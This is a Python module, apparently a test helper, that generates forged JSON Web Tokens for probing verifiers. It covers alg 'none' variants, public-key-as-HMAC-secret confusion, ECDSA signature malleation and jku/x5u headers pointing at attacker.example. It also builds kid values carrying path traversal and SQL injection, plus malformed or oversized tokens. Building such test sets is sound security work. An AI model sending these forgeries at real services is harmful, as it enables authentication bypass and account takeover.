"""JWTs as forgers make them, octet by octet: no library that would refuse to write what no library should read."""

import hashlib
import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

Header = dict[str, Any]
Signer = Callable[[bytes], bytes]
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def encoded(octets: bytes) -> str:
    return urlsafe_b64encode(octets).decode().rstrip("=")


def token(header: Header | bytes, claims: Header | bytes, sign: Signer) -> str:
    """In the compact form (RFC 7515 7.1)."""
    parts = (part if isinstance(part, bytes) else json.dumps(part).encode() for part in (header, claims))
    signed = ".".join(map(encoded, parts))
    return f"{signed}.{encoded(sign(signed.encode()))}"


def by_rsa(key: rsa.RSAPrivateKey) -> Signer:
    return lambda signed: key.sign(signed, padding.PKCS1v15(), SHA256())


def by_ec(key: ec.EllipticCurvePrivateKey) -> Signer:
    def sign(signed: bytes) -> bytes:
        r, s = utils.decode_dss_signature(key.sign(signed, ec.ECDSA(SHA256())))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")

    return sign


def by_hmac(secret: bytes) -> Signer:
    return lambda signed: hmac.new(secret, signed, hashlib.sha256).digest()


def unsigned(_: bytes) -> bytes:
    return b""


def malleated(jwt: str) -> str:
    """The same JWT under the other signature that ECDSA gives everybody for free: (r, n - s)."""
    signed, _, signature = jwt.rpartition(".")
    octets = urlsafe_b64decode(signature + "==")
    s = P256_ORDER - int.from_bytes(octets[32:], "big")
    return f"{signed}.{encoded(octets[:32] + s.to_bytes(32, 'big'))}"


def public_octets(public: Any, jwk: Header) -> Iterator[bytes]:
    """What a verifier that takes a public key for an HMAC secret may take for it."""
    for encoding in (Encoding.PEM, Encoding.DER):
        octets = public.public_bytes(encoding, PublicFormat.SubjectPublicKeyInfo)
        yield from (octets, octets.strip())
    yield json.dumps(jwk).encode()
    yield json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()
    yield from (str(value).encode() for name, value in jwk.items() if name in ("n", "x", "kid"))
    yield from (b"", b"\0" * 32)


def forgeries(
    claims: Header, honest: Header, genuine: str, key_texts: Sequence[bytes], foreign: tuple[Header, Signer]
) -> Iterator[tuple[str, str]]:
    """Every forgery with its name.

    `honest` is the header of a genuine JWT, `key_texts` what the public key may be written as, `foreign` the forger's
    own JWK and key.
    """
    own_jwk, own = foreign
    algorithm = honest["alg"]
    for name in ("none", "None", "NONE", "nOnE", "", None, [], 0, True, {"alg": algorithm}, "none ", "HS256", "dir"):
        yield f"alg {name!r} unsigned", token(honest | {"alg": name}, claims, unsigned)
        yield f"alg {name!r} signed by another", token(honest | {"alg": name}, claims, own)
    yield "no alg", token({"kid": honest["kid"]}, claims, unsigned)
    for secret in key_texts:
        yield "HS256 with the public key", token(honest | {"alg": "HS256"}, claims, by_hmac(secret))
        yield f"{algorithm} said, HMAC made", token(honest, claims, by_hmac(secret))
    url = "https://attacker.example/jwks"
    for header in (
        {"jwk": own_jwk}, {"jku": url}, {"x5u": url}, {"x5c": ["AA=="]}, {"x5t": "AA"}, {"x5t#S256": "AA"},
        {"jwk": own_jwk, "kid": own_jwk["kid"]}, {"jku": url, "kid": own_jwk["kid"]}, {"kid": own_jwk["kid"]},
        {"kid": "../../dev/null"}, {"kid": "/dev/null"}, {"kid": "' OR 1=1 --"}, {"kid": ""}, {"kid": None},
        {"kid": [honest["kid"]]}, {"kid": {"x": 1}}, {"kid": 1}, {"kid": "x" * 9000}, {"kid": honest["kid"] + "\0"},
        {"typ": "at+jwt"}, {"epk": own_jwk}, {"iss": claims["iss"]},
    ):  # fmt: skip
        yield f"header {header} signed by another", token(honest | header, claims, own)
    honest_head, body, signature = genuine.split(".")
    for size in (0, 1, 32, 63, 64, 65, 255, 256, 257):
        yield f"{size} zeros for a signature", token(honest, claims, lambda _, size=size: b"\0" * size)
        yield f"{size} ones for a signature", token(honest, claims, lambda _, size=size: b"\xff" * size)
    other_claims = encoded(json.dumps(claims | {"jti": "another"}).encode())
    yield "claims changed", f"{honest_head}.{other_claims}.{signature}"
    yield "header changed", f"{encoded(json.dumps(honest | {'x': 1}).encode())}.{body}.{signature}"
    yield "no signature", f"{honest_head}.{body}."
    yield "two parts", f"{honest_head}.{body}"
    yield "four parts", f"{genuine}.{signature}"
    yield "five parts, as if encrypted", f"{honest_head}..{body}.{signature}.AA"
    yield "empty parts", ".."
    yield "JSON serialization", json.dumps({"protected": honest_head, "payload": body, "signature": signature})
    yield (
        "general JSON serialization",
        json.dumps({"payload": body, "signatures": [{"protected": honest_head, "signature": signature}]}),
    )
    yield "nested", token(honest | {"cty": "JWT"}, encoded(genuine.encode()).encode(), own)
    yield "deep header", token(b'{"a":' * 3000 + b"1" + b"}" * 3000, claims, own)
    yield "deep claims", token(honest, b"[" * 6000 + b"]" * 6000, own)
    yield "no JSON", token(b"\xff\xfe", b"\0", own)
    yield "a list for a header", token(b"[]", claims, own)
    yield "a number for claims", token(honest, b"1" + b"0" * 5000, own)
    twice = json.dumps(honest)[:-1] + ', "alg": "none"}'
    yield "alg twice", token(twice.encode(), claims, unsigned)


def critical(honest: Header) -> Iterator[Header]:
    """Headers that change what a signature means, under a signature that is right (RFC 7515 4.1.11, RFC 7797)."""
    for value in (["b64"], ["exp"], [], ["alg"], "b64", None, ["crit"], ["https://attacker.example/x"]):
        yield honest | {"crit": value, "b64": True, "exp": 1}
    yield honest | {"crit": ["b64"], "b64": False}
    yield from (honest | {name: "https://attacker.example/k"} for name in ("jku", "x5u"))
    yield honest | {"jwk": {"kty": "oct", "k": "AA"}}
